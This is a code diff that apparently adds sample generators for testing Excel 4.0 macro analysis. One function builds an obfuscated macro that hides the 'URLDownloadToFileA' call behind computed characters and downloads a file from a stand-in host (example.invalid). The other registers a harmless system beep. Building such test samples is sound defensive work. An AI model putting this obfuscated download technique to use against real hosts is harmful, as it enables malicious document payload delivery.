@@ -313,6 +313,24 @@ def xlm_download():
                                f.string('JJCCJJ'), f.string('Example')), f.call(f.F_HALT)), auto=False)
 
 
+def xlm_effect_download():
+    """The names of library and function are computed, digit by digit, by what only evaluation sees."""
+    f = office97
+    fetch = ''.join(reversed('AeliFoTdaolnwoDLRU'))
+    letters = [f.call(f.F_CHAR, f.integer(ord(c) + 5) + f.integer(5) + b'\x04', fixed=True) for c in fetch]
+    name = letters[0] + b''.join(c + f.CONCAT for c in letters[1:])
+    cells = _column(f.call(f.F_CALL, f.string('urlmon'), f.ref(4, 1), f.string('JJCCJJ'), f.integer(0), f.string('http://example.invalid/inert.txt'),
+                           f.string('..\\inert.txt'), f.integer(0), f.integer(0)), f.call(f.F_HALT))
+    cells[(4, 1)] = f.Formula(name, 0.0)
+    return _xlm(cells)
+
+
+def xlm_register_beep():
+    """A sound of the system, by hand."""
+    f = office97
+    return _xlm(_column(f.call(f.F_REGISTER, f.string('user32'), f.string('MessageBeep'), f.string('JJ'), f.string('Beep')), f.call(f.F_HALT)), auto=False)
+
+
 def xlm_self_writing():
     f = office97
     pieces = [f.call(f.F_CHAR, f.ref(20, i) + f.ref(21, i) + b'\x05', fixed=True) for i in range(14)]
